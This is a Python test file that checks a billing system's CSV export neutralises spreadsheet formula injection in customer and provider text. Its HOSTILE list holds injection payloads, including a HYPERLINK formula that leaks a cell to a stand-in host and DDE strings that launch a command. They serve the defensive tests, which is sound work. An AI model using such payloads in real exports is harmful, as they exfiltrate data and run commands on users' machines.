"""CSV that people open in spreadsheets has no formula in it, whatever customers and providers write into texts."""

import csv
import io
import re
from dataclasses import replace
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from control_plane.domain.focus import COLUMNS, Kind, Row
from control_plane.domain.focus_documents import document_rows
from control_plane.domain.money import Nano
from control_plane.exports.csv_file import CsvEncoder
from control_plane.wire.common import LABEL_KEY_PATTERN, NAME_PATTERN, REGION_PATTERN
from control_plane.wire.csv_lines import FORMULA, cell, lines
from tests.arch.tree import PRODUCT
from tests.support.cases import case
from tests.support.charges import FACTS, SELLER, usage_row
from tests.support.documents import BROKEN, GOODWILL, an_invoice, of_credit_note, of_invoice

HOSTILE = (
    '=HYPERLINK("https://a.example?x="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "-1e5",
    "--1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1+1",
    "\uff201",
)


def test_a_text_that_a_spreadsheet_takes_for_a_formula_is_made_a_text_and_all_else_stays() -> None:
    for text in HOSTILE:
        with case(text):
            assert cell(text) == f"'{text}"
    for value in ("-12.500000000", "-1", "0.5", -1, 2.5, None, "", "ticket 4711", "a=b", "1-2", "'=1"):
        with case(value):
            assert cell(value) == value


@given(rows=st.lists(st.lists(st.text() | st.integers() | st.none(), min_size=1, max_size=4), max_size=5))
def test_what_is_written_is_read_again_but_for_the_apostrophe(rows: list[list[object]]) -> None:
    found = list(csv.reader(io.StringIO(lines(rows), newline="")))
    assert found == [["" if value is None else str(cell(value)) for value in row] for row in rows]
    assert not [text for row in found for text in row if text.startswith(FORMULA) and not _is_number(text)]


def test_every_line_of_csv_is_written_there_but_for_exports_in_focus() -> None:
    files = (path for root in PRODUCT for path in Path(root).rglob("*.py"))
    writers = {
        path.as_posix() for path in files if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    }
    assert writers == {"control_plane/wire/csv_lines.py"}


def test_nothing_that_a_customer_or_a_provider_writes_can_begin_a_cell_of_an_export_with_a_formula() -> None:
    """Its values are those of the Parquet file, so nothing is put in front of them: see decision 0112."""
    for pattern in (NAME_PATTERN, REGION_PATTERN, LABEL_KEY_PATTERN):
        for text in HOSTILE:
            with case(pattern, text):
                assert re.search(pattern, text) is None, "a name begins with a letter or a digit"
    for text in HOSTILE:
        usage = replace(FACTS, labels={"team": text, "zone": text})
        credit = replace(GOODWILL, reason=text)
        invoice, of_lines = an_invoice([Nano(10**12)], (replace(BROKEN, reason=text), credit))
        note, _ = of_credit_note(invoice, of_lines, None)
        rows = [usage_row(usage, seller=SELLER)]
        for facts in (of_invoice(invoice, of_lines), replace(note, reason=text)):
            rows += document_rows(facts, seller=SELLER)
        with case(text):
            assert _formulas(rows) == []


def _formulas(rows: list[Row]) -> list[str]:
    """The texts of the CSV file that begin as a formula does."""
    content = CsvEncoder().encode(rows).decode()
    read = list(csv.reader(io.StringIO(content, newline="")))
    assert len(read) == len(rows)
    texts = [place for place, column in enumerate(COLUMNS) if column.kind is not Kind.DECIMAL]
    return [row[place] for row in read for place in texts if row[place].startswith(FORMULA)]


def _is_number(text: str) -> bool:
    return re.fullmatch(r"-[0-9]+(\.[0-9]+)?", text) is not None
